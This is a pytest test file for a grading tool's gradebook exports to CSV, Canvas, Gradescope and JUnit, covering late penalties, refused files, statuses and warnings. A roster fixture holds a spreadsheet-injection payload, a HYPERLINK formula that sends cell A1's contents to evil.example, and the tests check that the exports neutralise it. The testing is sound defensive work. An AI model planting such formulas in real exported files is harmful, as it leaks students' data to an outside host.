"""The gradebook exported as the library does it (grader.gradebook_exports): each format to
its file or folder, the CSV to standard output, warnings, --strict. Real gradebooks, real
files, no kernel."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import xml.etree.ElementTree as ET

import click
import pytest
from click.testing import CliRunner
from test_finals import DUE, TWO, record

from grader import load_course
from grader.cli_class import export_cmd
from grader.errors import GraderError
from grader.execute.records import Executed, StepOutcome
from grader.gradebook import Gradebook, Graded
from grader.gradebook_exports import DEFAULT_OUT, FORMATS, export
from grader.intake import Submission
from grader.report.exports import FORMULA_START
from grader.results import ExerciseResult, GradeResult
from grader.roster import Student, save_roster


@pytest.fixture
def graded(write_course, tmp_path, monkeypatch):
    """A two-assignment course, and a gradebook: alice did both, bob a1 two days late."""
    monkeypatch.chdir(tmp_path)
    course = load_course(write_course(tmp_path, course=TWO))
    gb = Gradebook(tmp_path / "gb.db")
    record(gb, course, "alice", "a1")
    record(gb, course, "alice", "a2", share=0.5)
    record(gb, course, "bob", "a1", DUE + dt.timedelta(hours=30), share=0.5)
    yield course, gb
    gb.close()


def test_csv_to_its_default_file_or_as_text(graded, tmp_path):
    course, gb = graded
    done = export(course, gb, "csv", now=AFTER_BOTH)
    assert done.target == DEFAULT_OUT["csv"] and done.text == "" and done.warnings == ()
    rows = list(csv.DictReader(io.StringIO((tmp_path / "grades.csv").read_text())))
    assert [(r["student"], r["a1 final"], r["a2 final"]) for r in rows] == [
        ("alice", "2", "1.5"),
        ("bob", "0.8", "0"),  # bob handed no a2 in: a row all the same
    ]
    # while a2 is open, bob's a2 is no 0: not due yet, said, and no score to read as one
    early = export(course, gb, "csv", out="-", now=DUE + dt.timedelta(days=2))
    (_, bob) = csv.DictReader(io.StringIO(early.text))
    assert (bob["a2 status"], bob["a2 final"], bob["a2 score"], bob["a2 max"]) == (
        "not due yet (due 2030-02-28 23:59 UTC)", "", "", "3",
    )  # fmt: skip
    text = export(course, gb, "csv", ["a1"], "-")
    head = text.text.splitlines()[0]
    assert text.target is None and head.startswith("student,name,email,status,t-num,score")
    assert text.text == export(course, gb, "csv", ["a1"], tmp_path / "a1.csv").target.read_text()


def test_gradescope_a_folder_per_assignment_when_there_are_several(graded, tmp_path):
    course, gb = graded
    done = export(course, gb, "gradescope", out=tmp_path / "gs")
    assert done.target == tmp_path / "gs"
    names = sorted(str(p.relative_to(done.target)) for p in done.target.rglob("*.json"))
    assert names == ["a1/alice.results.json", "a1/bob.results.json", "a2/alice.results.json"]
    bob = json.loads((done.target / "a1" / "bob.results.json").read_text())
    assert bob["score"] == 0.8  # as it counts, the penalty said in its output
    assert "Late policy" in bob["output"]
    one = export(course, gb, "gradescope", ["a2"], tmp_path / "only")
    assert [p.name for p in one.target.iterdir()] == ["alice.results.json"]


def test_junit_one_file_a_suite_per_counted_submission(graded, tmp_path):
    course, gb = graded
    done = export(course, gb, "junit")
    assert done.target == DEFAULT_OUT["junit"]
    suites = ET.parse(tmp_path / "grades.xml").getroot().findall("testsuite")
    names = [s.get("name") for s in suites]  # by student, then assignment
    assert names == ["alice-a1.ipynb", "alice-a2.ipynb", "bob-a1.ipynb"]


def test_warnings_are_returned_or_with_strict_refuse(graded, write_course, tmp_path):
    _, gb = graded
    newer = load_course(write_course(tmp_path, course=TWO.replace("Second", "Later")))
    done = export(newer, gb, "csv", out="-")
    assert len(done.warnings) == 1 and "run grade regrade" in done.warnings[0]
    with pytest.raises(GraderError, match=r"^not exported: 3 gradings were judged"):
        export(newer, gb, "junit", strict=True)
    assert not (tmp_path / "grades.xml").exists()


def test_an_unknown_format_is_an_error_and_the_cli_offers_every_format(graded):
    course, gb = graded
    with pytest.raises(GraderError, match="unknown export format 'xlsx'"):
        export(course, gb, "xlsx")
    option = next(p for p in export_cmd.params if p.name == "format_")
    assert isinstance(option.type, click.Choice)
    assert tuple(option.type.choices) == FORMATS


# --- what a spreadsheet and an LMS read: names, statuses, Canvas, refused files kept --------

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ROSTER = (
    Student("alice", HYPERLINK, "+alice@example.org"),
    Student("bob", "Bob B", "bob@example.org"),
    Student("carol", "Carol C", "carol@example.org"),
    Student("dave", "Dave D", "dave@example.org"),  # hands nothing in
    Student("erin", "Erin E", "erin@example.org"),
)
A2_LATER = TWO.replace("due: 2030-02-28", "due: 2099-02-28")  # not due when the CLI runs
BEFORE_A2 = DUE + dt.timedelta(days=10)  # a1 is due, a2 is not
AFTER_BOTH = dt.datetime(2031, 1, 1, tzinfo=dt.timezone.utc)  # the two of TWO
AFTER_A2 = dt.datetime(2100, 1, 1, tzinfo=dt.timezone.utc)


def awaiting(gb, course, student, when=DUE):
    """An attempt at a1 whose answer awaits a person's review."""
    ex = course.exercises["t-num"]
    result = GradeResult(
        course.name, "a1", f"{student}.ipynb", 0.0, 0.0, 0.1,
        (ExerciseResult("t-num", ex.title, ex.points, 0.0, "awaiting review"),),
    )  # fmt: skip
    sha = hashlib.sha256(f"{student}/awaiting".encode()).hexdigest()
    run = Graded(result, Executed((StepOutcome("ok"),), {}), course.fingerprint, "run")
    gb.record(Submission(student, f"{student}.ipynb", None, sha, 10, when), "a1", run)


@pytest.fixture
def klass(write_course, tmp_path, monkeypatch):
    """The two-assignment course with a roster of five, and a1 handed in five ways: alice
    on time (as Canvas names the file), bob 30 hours late, carol a corrupt file, dave not
    at all, erin an answer awaiting review. Nobody handed a2 in."""
    monkeypatch.chdir(tmp_path)
    course = load_course(write_course(tmp_path, course=A2_LATER))
    save_roster(tmp_path / "release", ROSTER, b"a secret")
    gb = Gradebook(tmp_path / "gb.db")
    record(gb, course, "alice", "a1", source="alice_4711_99_a1.ipynb")
    record(gb, course, "bob", "a1", DUE + dt.timedelta(hours=30), share=0.5)
    reason = "not a notebook (the file is not valid JSON)"
    gb.record(Submission("carol", "carol.ipynb", submitted_at=DUE), "a1", reason)
    awaiting(gb, course, "erin")
    # fay, not on the roster, handed in a corrupt file of no assignment that could be told
    gb.record(Submission("fay", "fay.ipynb", submitted_at=DUE), "", "not a notebook (empty)")
    yield course, gb
    gb.close()


def test_the_csv_reads_back_with_names_emails_and_statuses(klass):
    course, gb = klass
    done = export(course, gb, "csv", out="-", now=BEFORE_A2)
    reader = csv.DictReader(io.StringIO(done.text))
    per_assignment = ["status", "t-num", "reviews", "score", "late hours", "late penalty"]
    per_assignment += ["final", "max", "awaiting review"]
    # named "a1 ...": the course has two assignments, whichever are due
    assert reader.fieldnames == ["student", "name", "email"] + [f"a1 {c}" for c in per_assignment]
    rows = {r["student"]: {k.removeprefix("a1 "): v for k, v in r.items()} for r in reader}
    assert {s: r["status"] for s, r in rows.items()} == {
        "alice": "graded",
        "bob": "late",
        "carol": "refused: not a notebook (the file is not valid JSON)",
        "dave": "not submitted",  # on the roster only
        "erin": "awaiting review",
        "fay": "refused: not a notebook (empty); which assignment it was for could not be told",
    }
    assert [rows["bob"][k] for k in ("name", "email", "t-num", "late hours", "final")] == [
        "Bob B", "bob@example.org", "1", "30", "0.8",
    ]  # fmt: skip
    # nothing graded: no exercise score to give, and 0 as the final, which status explains
    assert [rows["carol"][k] for k in ("t-num", "score", "final", "max")] == ["", "0", "0", "2"]
    erin = rows["erin"]
    assert (erin["t-num"], erin["max"], erin["awaiting review"]) == ("awaiting review", "0", "2")
    # a roster's text is never a formula: the cell starts with a quote
    alice = rows["alice"]
    assert (alice["name"], alice["email"]) == ("'" + HYPERLINK, "'+alice@example.org")
    assert not any(c.startswith(FORMULA_START) for r in rows.values() for c in r.values())
    # a2 is not due and nobody handed it in: no column gives everyone 0, and a note says so
    assert done.notes == (
        "left out, not due yet and nothing handed in: a2 (due 2099-02-28 23:59 UTC) "
        "(--assignment exports one all the same)",
    )
    later = export(course, gb, "csv", out="-", now=AFTER_A2)
    assert later.notes == () and "a2 status" in later.text.splitlines()[0]
    asked = export(course, gb, "csv", ["a2"], out="-", now=BEFORE_A2)
    assert asked.notes == () and asked.text.startswith("student,name,email,status,t-arr,")
    a2 = {r["student"]: r["status"] for r in csv.DictReader(io.StringIO(asked.text))}
    assert a2.pop("fay").startswith("refused: not a notebook (empty); which assignment")
    assert set(a2.values()) == {"not due yet (due 2099-02-28 23:59 UTC)"}


def test_the_canvas_file_has_canvas_columns_points_possible_and_only_numbers(klass):
    course, gb = klass
    done = export(course, gb, "canvas", out="-", now=BEFORE_A2)
    rows = list(csv.reader(io.StringIO(done.text)))
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "First"]
    assert rows[1] == ["Points Possible", "", "", "", "", "2"]
    assert rows[2:] == [
        ["'" + HYPERLINK, "4711", "alice", "'+alice@example.org", "", "2"],
        ["Bob B", "", "bob", "bob@example.org", "", "0.8"],
        ["Carol C", "", "carol", "carol@example.org", "", "0"],
        ["Dave D", "", "dave", "dave@example.org", "", "0"],
        ["Erin E", "", "erin", "erin@example.org", "", ""],  # awaiting review: left empty
        ["fay", "", "fay", "", "", "0"],
    ]
    for row in rows[2:]:
        assert row[5] == "" or float(row[5]) >= 0
    assert not any(c.startswith(FORMULA_START) for row in rows for c in row)
    assert done.notes[0].startswith("left out, not due yet and nothing handed in: a2 (due")
    assert done.notes[1].startswith("Canvas: 1 grade left empty, awaiting review")
    assert done.notes[1].endswith(": erin (a1)")
    assert done.notes[2] == (
        "Canvas: 0 for 2 students whose every file was refused (the grades CSV's status says "
        "why): carol (a1), fay (a1)"
    )
    later = export(course, gb, "canvas", out="-", now=AFTER_A2)
    rows = list(csv.reader(io.StringIO(later.text)))
    assert (rows[0][5:], rows[1][5:], rows[3][5:]) == (
        ["First", "Second"],
        ["2", "3"],
        ["0.8", "0"],
    )
    # asked for while it is open: nobody's a2 is a 0 yet
    open_a2 = export(course, gb, "canvas", ["a2"], out="-", now=BEFORE_A2)
    rows = list(csv.reader(io.StringIO(open_a2.text)))
    assert [row[5] for row in rows[2:]] == ["", "", "", "", "", "0"]  # fay: refused
    assert open_a2.notes[0].startswith("Canvas: 5 grades left empty, not due yet for the")
    assert export(course, gb, "canvas").target == DEFAULT_OUT["canvas"]


def test_gradescope_and_junit_keep_a_refused_student(klass, tmp_path):
    course, gb = klass
    done = export(course, gb, "gradescope", out=tmp_path / "gs", now=BEFORE_A2)
    assert [p.name for p in done.target.iterdir()] == ["a1"]  # a folder an assignment, as ever
    folder = done.target / "a1"
    assert sorted(p.name for p in folder.iterdir()) == [
        "alice.results.json", "bob.results.json", "carol.results.json", "erin.results.json",
    ]  # fmt: skip
    carol = json.loads((folder / "carol.results.json").read_text())
    assert (carol["score"], carol["max_score"]) == (0, 2)
    assert "Not graded: not a notebook (the file is not valid JSON)" in carol["output"]
    assert [(t["score"], t["max_score"], t["status"]) for t in carol["tests"]] == [(0, 2, "failed")]
    assert "the submission was refused (not a notebook" in carol["tests"][0]["output"]

    target = export(course, gb, "junit", out=tmp_path / "g.xml", now=BEFORE_A2).target
    suites = {
        s.find("properties/property[@name='student']").get("value"): s
        for s in ET.parse(target).getroot().findall("testsuite")
    }
    assert sorted(suites) == ["alice", "bob", "carol", "erin"]
    assert suites["carol"].get("name") == "carol.ipynb" and suites["carol"].get("errors") == "1"
    error = suites["carol"].find("testcase/error")
    assert "refused (not a notebook (the file is not valid JSON))" in error.get("message")


def test_the_cli_says_what_was_left_out_on_stderr(klass):
    course, _ = klass
    out = CliRunner().invoke(
        export_cmd,
        ["--course", str(course.path), "--db", "gb.db", "--format", "canvas", "--out", "-"],
    )
    assert out.exit_code == 0, out.output
    lines = out.stderr.splitlines()
    assert lines[0].startswith("left out, not due yet and nothing handed in: a2 (due 2099-02-28")
    assert lines[1].startswith("Canvas: 1 grade left empty, awaiting review")
    assert out.stdout.startswith("Student,ID,SIS User ID,SIS Login ID,Section,First\n")
